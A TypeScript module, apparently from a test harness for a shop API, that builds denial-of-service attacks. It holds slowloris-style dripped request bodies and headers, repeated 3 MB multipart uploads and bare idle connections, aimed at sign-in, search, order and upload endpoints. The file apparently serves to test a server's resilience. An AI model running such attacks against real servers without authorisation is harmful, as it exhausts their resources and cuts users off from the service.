import type { ShopFacts } from '../shop/shop-facts'
import type { Attack } from './attack'
import { inTurns } from './in-turns'
import { withBody, writeHead } from './write-request'

/** How much of a body is dripped in; less than any operation allows, as a longer body is refused unread. */
const DRIPPED_BYTES = 4_096
const PHOTO_BYTES = 3 * 1024 * 1024
const BOUNDARY = 'attack'

/**
 * Attacks that hold memory or connections.
 *
 * @throws Error when the attacker has no account
 */
export function bodyAttacks({ attackers, administrator, longestJson }: ShopFacts): Attack[] {
  const [buyer] = attackers
  if (!buyer) throw new Error('The attacker has no account.')
  const path = `/api/product/create/${administrator.userId}`
  const type = { 'Content-Type': `multipart/form-data; boundary=${BOUNDARY}` }
  const form = writeForm()
  const upload = { ...type, Authorization: `Bearer ${administrator.token}` }
  const uploads = inTurns([
    withBody('POST', path, form, type),
    withBody('POST', path, form, upload),
  ])
  const json = { 'Content-Type': 'application/json' }
  return [
    { name: 'uploads', manner: { kind: 'ask', next: uploads } },
    dripped('dripped sign-ins', '/api/auth/signin', json, longestJson.signIn),
    dripped('dripped filters', '/api/product/by/search', json, longestJson.filterProducts),
    dripped(
      'dripped orders',
      `/api/order/create/${buyer.userId}`,
      { ...json, Authorization: `Bearer ${buyer.token}` },
      longestJson.createOrder,
    ),
    dripped('dripped uploads', path, upload, PHOTO_BYTES),
    {
      name: 'dripped heads',
      manner: {
        kind: 'drip',
        beginning: Buffer.from('GET /api/category/list HTTP/1.1\r\nHost: shop.example\r\nX-Long: '),
        rest: Buffer.alloc(DRIPPED_BYTES, 'x'),
      },
    },
    {
      name: 'bare connections',
      manner: { kind: 'drip', beginning: Buffer.alloc(0), rest: Buffer.alloc(0) },
    },
  ]
}

function dripped(
  name: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  bytes: number,
): Attack {
  const head = writeHead('POST', path, { ...headers, 'Content-Length': String(bytes) })
  const beginning = Buffer.concat([
    Buffer.from(`${head}{"name":"`),
    Buffer.alloc(bytes - DRIPPED_BYTES, 'x'),
  ])
  return { name, manner: { kind: 'drip', beginning, rest: Buffer.alloc(DRIPPED_BYTES, 'x') } }
}

function writeForm(): Buffer {
  return Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`,
    ),
    Buffer.alloc(PHOTO_BYTES, 'x'),
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ])
}
